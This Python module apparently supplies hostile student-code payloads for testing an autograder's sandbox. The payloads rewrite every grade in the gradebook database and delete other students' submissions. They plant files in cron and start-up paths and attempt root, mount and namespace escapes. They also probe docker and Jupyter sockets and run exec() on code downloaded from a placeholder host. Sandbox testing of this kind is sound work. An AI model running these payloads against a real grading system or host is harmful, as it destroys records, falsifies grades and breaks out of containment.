"""Attacks that change what lies outside: marks, submissions, tests, the machine; and the network."""

from __future__ import annotations

from .attack import EITHER, Family

WRITING = Family("writing outside")

WRITING.replace("gradebook_write", "writes full marks for everybody into the gradebook", """
    import sqlite3
    database = sqlite3.connect("@ROOT@/gradebook.db")
    database.execute("update grade set auto_score = 99, manual_score = 99")
    database.execute("drop table submitted_assignment")
    database.commit()
""")  # fmt: skip
WRITING.replace("other_submission", "deletes and changes other students' submissions", """
    import glob, os, shutil
    for folder in glob.glob("@ROOT@/submitted/*"):
        for path in glob.glob(folder + "/*/*"):
            try: open(path, "w").write("{}")
            except OSError: pass
        shutil.rmtree(folder, ignore_errors=True)
    shutil.rmtree("@ROOT@/autograded", ignore_errors=True)
    raise SystemExit(0)
""", statuses=EITHER)  # fmt: skip
WRITING.replace("source_and_release", "changes the tests in source and release, and the configuration", """
    for path in ("source/basics/basics.ipynb", "release/basics/basics.ipynb", "nbgrader_config.py",
                 ".instructor_seed"):
        try: open("@ROOT@/" + path, "w").write("@MARK@")
        except OSError as error: print(error)
    raise ValueError
""")  # fmt: skip
WRITING.beside("tmp", "leaves files in every folder that is often writable", """
    import os
    for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/", "/root", "@HOME@", "@OUTSIDE@",
                  "@ROOT@", "/usr/local/bin", "/etc/cron.d", os.path.dirname(os.__file__)):
        try: open(place + "/@MARK@-left", "w").write("x")
        except OSError: pass
    import tempfile; tempfile.mkstemp(prefix="@MARK@")
""")  # fmt: skip
WRITING.beside("packages", "writes into the interpreter's packages and start-up files", """
    import numpy, os, site, sys
    for place in [os.path.dirname(numpy.__file__), *sys.path, sys.prefix, *site.getsitepackages()]:
        try: open(os.path.join(place or ".", "@MARK@.pth"), "w").write("import os")
        except OSError: pass
    for start in ("~/.bashrc", "~/.ipython/profile_default/startup/00-@MARK@.py", "~/.config/@MARK@"):
        try:
            path = os.path.expanduser(start)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "a").write("# @MARK@")
        except OSError: pass
""")  # fmt: skip
WRITING.beside("links_out", "leaves links to files outside, for whoever collects the results", """
    import os
    for name in ("basics.ipynb", "feedback.html", "report.json", "executed.ipynb", "link"):
        try:
            if os.path.lexists(name): os.remove(name)
            os.symlink("@ROOT@/gradebook.db", name)
        except OSError: pass
    os.symlink("/", "everything")
""")  # fmt: skip
WRITING.beside("pipe_for_reader", "leaves a pipe, a socket and an unreadable folder where it works", """
    import os, socket
    for way in (lambda: os.mkfifo("report.json"), lambda: os.mkfifo("pipe"),
                lambda: socket.socket(socket.AF_UNIX).bind("socket"),
                lambda: (os.mkdir("closed"), os.chmod("closed", 0)), lambda: os.chmod(".", 0)):
        try: way()
        except OSError: pass
""")  # fmt: skip
WRITING.beside("privileges", "tries to become root, to mount, to change limits and to leave the sandbox", """
    import ctypes, os, resource
    libc = ctypes.CDLL(None, use_errno=True)
    for way in (lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.chroot("/"),
                lambda: libc.unshare(0x10000000), lambda: libc.mount(b"none", b"/", None, 32768, None),
                lambda: libc.umount2(b"/", 2), lambda: libc.setns(3, 0), lambda: libc.prctl(38, 0, 0, 0, 0),
                lambda: resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2),
                lambda: libc.sethostname(b"@MARK@", 8), lambda: os.mknod("sda", 0o60666, os.makedev(8, 0))):
        try: print(way())
        except (OSError, ValueError, AttributeError) as error: print(error)
""", statuses=EITHER)  # fmt: skip

NETWORK = Family("network")

NETWORK.beside("loopback", "connects to services on this machine", """
    import socket
    for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET6, ("::1", @PORT@)),
                            (socket.AF_INET, ("0.0.0.0", @PORT@))):
        try:
            with socket.socket(family) as peer:
                peer.settimeout(0.5); peer.connect(address); peer.send(b"@MARK@")
        except OSError as error: print(error)
""")  # fmt: skip
NETWORK.beside("unix_sockets", "connects to sockets in the file system and abstract ones", """
    import os, socket
    for address in ("@SOCKET@", "\\0@MARK@", "/run/docker.sock", "/var/run/dbus/system_bus_socket"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_UNIX, kind) as peer:
                    peer.settimeout(0.5); peer.connect(address); peer.send(b"@MARK@")
            except OSError as error: print(error)
""")  # fmt: skip
NETWORK.replace("download", "fetches the solution from the internet, if there is one", """
    import urllib.request
    exec(urllib.request.urlopen("http://192.0.2.1/solution.py", timeout=1).read())
""")  # fmt: skip
NETWORK.beside("listen", "opens a port for others to connect to", """
    import socket, threading
    try:
        server = socket.create_server(("127.0.0.1", 0))
        threading.Thread(target=server.accept, daemon=True).start()
    except OSError as error: print(error)
""")  # fmt: skip
NETWORK.beside("jupyter", "looks for kernels and servers of Jupyter to speak to", """
    import glob, json, os
    try:
        from jupyter_core.paths import jupyter_runtime_dir
        for path in glob.glob(os.path.join(jupyter_runtime_dir(), "*.json")): print(open(path).read())
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient(); client.load_connection_file(); client.start_channels()
        client.execute("import numpy as np; np.testing = None")
    except Exception as error: print(type(error).__name__)
""")  # fmt: skip
